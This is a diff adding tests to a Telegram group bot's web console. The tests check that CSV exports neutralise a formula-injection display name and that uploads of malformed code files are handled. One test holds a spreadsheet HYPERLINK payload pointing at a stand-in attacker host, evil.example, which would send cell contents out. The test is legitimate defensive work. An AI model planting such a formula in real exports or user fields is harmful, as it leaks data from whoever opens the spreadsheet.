@@ -5,6 +5,8 @@ what a stranger, a forger or a cross-group admin is refused."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import re
 import time
@@ -618,3 +620,70 @@ async def test_every_console_form_wants_its_token_and_its_own_group(
     assert "Pot · 10 pts" in (await sandbox.ask(group, admin, "/rewards"))["text"]
     assert "Kettle · 10 pts" in (await sandbox.ask(other, _other_admin, "/rewards"))["text"]
     assert "Kettle" in (await sandbox.ask(other, _other_admin, "/draws"))["text"]
+
+
+async def signed_in(http: aiohttp.ClientSession, web: str, admin: User) -> None:
+    """The console's session for `admin`, by the Login Widget."""
+    fields = {
+        "id": str(admin.id),
+        "first_name": admin.first_name,
+        "auth_date": str(int(time.time())),
+    }
+    async with http.get(f"{web}/console/login/telegram",
+                        params=sign_login_widget(fields, DEFAULT_TOKEN)) as answer:  # fmt: skip
+        assert answer.status == 200
+
+
+async def test_console_downloads_write_a_name_like_a_formula_as_text(
+    sandbox: SandboxClient, web: str
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    admin = await sandbox.create_user("Ada", None, "en")
+    fan = await sandbox.create_user(formula, None, "en")
+    group = await sandbox.create_group("Formulas", creator=admin, members=[fan])
+    await sandbox.ask(group, admin, "/settings language en")
+    await sandbox.send(group, fan, "签到")
+    await sandbox.settle()
+    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
+        await signed_in(http, web, admin)
+        tables = {}
+        for kind in ("members", "ledger", "checkins"):
+            async with http.get(f"{web}/console/{group.id}/export/{kind}.csv") as answer:
+                assert answer.status == 200, kind
+                text = (await answer.read()).decode("utf-8-sig")
+                tables[kind] = list(csv.DictReader(io.StringIO(text, newline="")))
+    for kind, rows in tables.items():
+        assert [row["name"] for row in rows if row["user_id"] == str(fan.id)] == ["'" + formula], (
+            kind
+        )
+
+
+async def test_a_console_code_file_with_a_huge_field_or_mixed_encodings_is_answered_not_a_500(
+    sandbox: SandboxClient, web: str
+) -> None:
+    group, admin, _fans = await shop_group(sandbox)
+    await sandbox.ask(group, admin, "/reward add Tea coupon price=10")
+    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
+        await signed_in(http, web, admin)
+        async with http.get(f"{web}/console/{group.id}/shop?lang=en") as answer:
+            html = await answer.text()
+        token = re.search(r'name="csrf" value="([^"]+)"', html)
+        reward = re.search(r'id="reward-(\d+)"', html)
+        assert token is not None
+        assert reward is not None
+
+        async def upload(data: bytes) -> tuple[int, str]:
+            form = aiohttp.FormData({"csrf": token[1]})
+            form.add_field("file", data, filename="codes.csv", content_type="text/csv")
+            address = f"{web}/console/{group.id}/shop/rewards/{reward[1]}/codes"
+            async with http.post(address, data=form, headers={"Origin": web}) as answer:
+                return answer.status, await answer.text()
+
+        status, page = await upload(("A1\n" + "x" * 200_000 + "\nA2\n").encode())
+        assert status == 200
+        assert "2 codes added" in page
+        assert "line 2: longer than 64 characters" in page
+        status, page = await upload("甲券01\n".encode("gbk") + "乙券02\n".encode())
+        assert status == 400
+        assert "Line 2 is not GBK like the lines before it" in page
+    assert "2 left" in (await sandbox.ask(group, admin, "/rewards"))["text"]
